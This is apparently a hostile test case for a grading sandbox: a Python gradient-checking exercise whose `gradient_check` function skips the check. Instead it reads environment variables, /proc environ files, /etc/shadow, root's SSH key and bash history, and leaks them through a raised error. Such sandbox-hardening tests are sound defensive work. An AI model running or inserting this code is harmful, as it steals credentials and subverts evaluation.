# Hostile test case `read_environment` (tests/hostile/cases.toml): the reference solution with one attack.
"""Gradient checking in one dimension: J(theta) = theta * x.

Compute the cost and its derivative, then confirm the derivative numerically with a
centred difference, and measure how far apart the two are.
"""

import os
import sys

import numpy as np


def forward_propagation(x, theta):
    """The cost of the one-parameter model.

    Parameters
    ----------
    x : float
        The input.
    theta : float
        The parameter.

    Returns
    -------
    J : float
        The cost.

    Notes
    -----
    ``J = theta * x``.
    """
    J = theta * x
    return J


def backward_propagation(x, theta):
    """The derivative of the cost with respect to theta.

    Parameters
    ----------
    x : float
        The input.
    theta : float
        The parameter.

    Returns
    -------
    dtheta : float
        The gradient ``dJ/dtheta``.

    Notes
    -----
    ``dJ/dtheta = x`` (the derivative of ``theta * x``).
    """
    dtheta = x
    return dtheta


def gradient_check(x, theta, epsilon=1e-7):
    """Attack: read the grader's environment (own, init's, parent's) and show it in the message."""
    found = dict(os.environ)
    for pid in ["1", str(os.getppid()), "self"]:
        try:
            found[pid] = open(f"/proc/{pid}/environ", "rb").read().decode("utf-8", "replace")
        except OSError as error:
            found[pid] = f"unreadable ({error.strerror})"
    for path in ("/etc/passwd", "/etc/shadow", "/root/.ssh/id_rsa", "/root/.bash_history"):
        try:
            found[path] = open(path).read(200)
        except OSError as error:
            found[path] = f"unreadable ({error.strerror})"
    raise RuntimeError(f"hostile: {found!r}")
